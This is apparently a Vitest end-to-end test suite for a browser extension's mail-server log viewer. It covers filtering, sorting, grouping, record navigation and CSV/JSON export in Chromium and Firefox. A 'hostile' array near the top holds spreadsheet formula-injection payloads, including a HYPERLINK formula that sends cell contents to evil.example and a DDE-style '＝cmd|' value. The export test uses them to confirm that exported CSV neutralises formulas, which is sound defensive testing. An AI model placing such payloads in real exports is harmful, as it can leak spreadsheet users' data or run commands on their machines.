import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openChromium } from '../browsers/chromium.ts';
import { eventually, type ExtensionBrowser, type ExtensionPage } from '../browsers/extension-browser.ts';
import { openFirefox } from '../browsers/firefox.ts';
import { type DaemonProcess, daemonProcess } from '../daemon-process.ts';
import { pairBrowser } from '../pages/companion-page.ts';
import { type LogRoom, logRoom } from '../pages/log-room.ts';
import { looksRight } from '../pages/looks-right.ts';
import { csvLines } from '../../shared/transfer/csv-cells.ts';
import { bareText } from '../../shared/transfer/shield.ts';
import { logEntry } from '../store/examples.ts';
import { fillLog } from '../store/fill-log.ts';

const count = 30_000;
/** As servers may answer. */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1,"xyzzy")',
  '@SUM(A1:A9) xyzzy',
  '＝cmd|xyzzy',
  'xyzzy "quoted", with a comma;\tand a tab',
  "xyzzy ends here\r\n=1+1\n'-2",
];

describe.each([
  ['Chromium', openChromium],
  ['Firefox', openFirefox],
])('questions to thirty thousand records in %s', (name, open) => {
  let browser: ExtensionBrowser;
  let daemon: DaemonProcess;
  let page: ExtensionPage;
  let log: LogRoom;
  beforeAll(async () => {
    [browser, daemon] = await Promise.all([open(), daemonProcess()]);
    await fillLog(
      daemon,
      count,
      hostile.map((message) => logEntry(message)),
    );
    page = await pairBrowser(browser, daemon);
    log = logRoom(page);
    await log.to('#/log');
    await log.rowsAreThere();
  }, 120_000);
  afterAll(async () => {
    await browser[Symbol.asyncDispose]();
    await daemon[Symbol.asyncDispose]();
  });

  /** What is saved from here on is the page's to show. */
  async function keepsFiles(): Promise<void> {
    await page.evaluate(`{
      window.saved = [];
      window.makeUrl ??= URL.createObjectURL.bind(URL);
      URL.createObjectURL = (blob) => {
        window.saved.push(blob.text());
        return window.makeUrl(blob);
      };
    }`);
  }

  it('are asked by quick filters, a search and the menu of a cell, and each can be taken away', async () => {
    await page.click('link', 'IMAP Auth');
    await log.crumbsBecome('Source is IMAP Auth');
    await page.press('/');
    await page.type('logged in as');
    await log.crumbsBecome('Source is IMAP Auth', 'Message contains “logged in as”');
    expect(await page.address()).toContain('where=source+is+%22IMAP+Auth%22+and+message+contains');
    await log.answered();
    await page.press('ArrowDown');
    await eventually(async () => (await log.focused()) || undefined, 'the focus in the rows');
    await page.press('ArrowDown');
    await page.press('Shift+F10');
    await page.sees('Filter out');
    if (name === 'Chromium') await looksRight(page, 'log-menu', { widths: [1280, 1000] });
    await page.press('Escape');
    await page.evaluate("void document.activeElement.closest('tr').querySelector('.records-act').click()");
    await page.click('button', 'Filter out: Username is “system”');
    await log.crumbsBecome(
      'Source is IMAP Auth',
      'Message contains “logged in as”',
      'Username is not “system”',
    );
    await page.click('link', 'Remove: Message contains “logged in as”');
    await log.crumbsBecome('Source is IMAP Auth', 'Username is not “system”');
    await page.click('link', 'Source is IMAP Auth');
    await log.crumbsBecome('Source is IMAP Auth');
    await page.back();
    await log.crumbsBecome('Source is IMAP Auth', 'Username is not “system”');
    await page.click('link', 'Email Logger · Error');
    await log.crumbsBecome('Source is Email Logger', 'Level is Error');
    await page.click('link', 'All records');
    await log.crumbsBecome();
  });

  it('are those of the quick filter that was chosen, however soon after typing', async () => {
    await page.evaluate(`{
      const field = document.querySelector('.records-search input');
      field.focus();
      field.value = 'logged in as';
      field.dispatchEvent(new Event('input', { bubbles: true }));
      field.blur();
      [...document.querySelectorAll('.records-quick a')].find((link) => link.innerText === 'POP3 Auth').click();
    }`);
    await log.crumbsBecome('Source is POP3 Auth');
    // Longer than a hand that types may rest.
    await sleep(400);
    await log.crumbsBecome('Source is POP3 Auth');
    expect(await page.evaluate("document.querySelector('.records-search input').value")).toBe('');
    await page.click('link', 'All records');
    await log.crumbsBecome();
  });

  it('are sorted by the head of the list', async () => {
    await page.click('button', 'Level');
    const first = () =>
      page.evaluate<string>("document.querySelector('.records-row .records-level')?.innerText.trim()");
    await eventually(async () => (await first()) === 'Error' || undefined, 'errors first');
    await page.click('button', 'Level');
    await eventually(async () => (await first()) === 'Debug' || undefined, 'debug first');
    await page.click('button', 'Created at');
    await eventually(async () => (await page.address()).endsWith('#/log') || undefined, 'the newest first');
  });

  it('are counted by level, and each group leads to its records', async () => {
    await page.choose('Shown as', 'Count by Level');
    await page.sees('Records');
    // Groups have an order of their own, and nothing comes in.
    expect(await page.evaluate("document.querySelectorAll('.records-sort, .records-live').length")).toBe(0);
    const groups = await eventually(async () => {
      const cells = await page.evaluate<string[]>(
        "[...document.querySelectorAll('.log-groups-table tbody tr')].map((row) => row.innerText.replaceAll(/\\s+/g, ' ').trim())",
      );
      return cells.length === 4 ? cells : undefined;
    }, 'four levels');
    const sum = groups.reduce((all, group) => all + Number(group.replaceAll(/\D/g, '')), 0);
    // Beside them, what the daemon has written itself: that this browser was paired.
    expect(sum).toBeGreaterThan(count);
    expect(sum).toBeLessThan(count + 10);
    if (name === 'Chromium') await looksRight(page, 'log-groups');
    await page.click('link', 'Error');
    await log.crumbsBecome('Level is Error');
    await log.rowsAreThere();
  });

  it('that cannot be read say where, and lose none of their words', async () => {
    await log.to('#/log?where=level+is+Error+and+colour+is+red');
    await page.sees('This condition cannot be read.');
    // A bookmark of it opens a page that has shown nothing before.
    await page.reload();
    await page.sees('This condition cannot be read.');
    await page.sees('There is no such field');
    expect(await page.text('.records-where-trouble mark')).toBe('colour');
    expect(await page.evaluate("document.querySelector('.records-where textarea').value")).toBe(
      'level is Error and colour is red',
    );
    if (name === 'Chromium') await looksRight(page, 'log-unread', { widths: [1280, 360] });
    await page.fill('Condition', 'level is Error and username is ada');
    await page.click('button', 'Apply');
    await log.crumbsBecome('Level is Error', 'Username is “ada”');
  });

  it('lead to one record, and to the ones beside it by arrow keys', async () => {
    await log.answered();
    await page.press('/');
    await page.press('ArrowDown');
    const first = await eventually(async () => (await log.focused()) || undefined, 'the focus');
    await page.press('ArrowDown');
    const second = await eventually(async () => {
      const now = await log.focused();
      return now !== first ? now : undefined;
    }, 'the second row');
    await page.press('Enter');
    await page.sees('Log record');
    expect(await page.address()).toContain(`#/log/${second}?where=level+is+Error`);
    if (name === 'Chromium') await looksRight(page, 'log-record-many');
    await eventually(
      async () =>
        (await page.evaluate(
          "document.querySelector('[aria-keyshortcuts=ArrowLeft]').ariaDisabled === 'false'",
        )) || undefined,
      'its neighbours',
    );
    await page.press('ArrowLeft');
    await eventually(
      async () => (await page.address()).includes(`#/log/${first}?`) || undefined,
      'the one before',
    );
    await page.back();
    await eventually(async () => (await log.focused()) === first || undefined, 'the row that was read last');
  });

  it('are answered in a file that no spreadsheet runs, whatever a server said', async () => {
    await keepsFiles();
    await log.to('#/log?where=message+contains+xyzzy');
    await log.crumbsBecome('Message contains “xyzzy”');
    await page.click('button', 'Export');
    await page.click('button', 'As CSV (spreadsheets)');
    await page.sees(/5 records exported: mailprobe-log-.*\.csv/);
    const csv = await page.evaluate<string>('window.saved[0]');
    const rows = csvLines(csv, (cells) => cells.length, 99).map(({ cells }) => cells);
    expect(rows.map((row) => row.length)).toEqual(Array.from({ length: hostile.length + 1 }, () => 9));
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    const messages = rows.slice(1).map((row) => bareText(row[4] ?? ''));
    expect(messages.toReversed()).toEqual(hostile);
  });

  it('are answered in a file, or stopped on the way', async () => {
    await keepsFiles();
    await log.to('#/log?where=level+is+Error');
    await log.crumbsBecome('Level is Error');
    await page.click('button', 'Export');
    await page.click('button', 'As CSV (spreadsheets)');
    await page.sees(/records exported: mailprobe-log-.*\.csv/);
    const csv = await page.evaluate<string>('window.saved[0]');
    const said = Number((await page.text('.records-export-line')).replaceAll(',', '').match(/^\d+/)?.[0]);
    expect(csv.startsWith('"id","createdAt","source","level","message"')).toBe(true);
    expect(csv.trimEnd().split('\r\n')).toHaveLength(said + 1);
    await log.to('#/log');
    await log.crumbsBecome();
    await page.click('button', 'Export');
    await page.click('button', 'As JSON Lines (scripts)');
    await page.click('button', 'Stop');
    await page.sees('The export was stopped; no file was saved.');
    expect(await page.evaluate('window.saved.length')).toBe(1);
  });
});
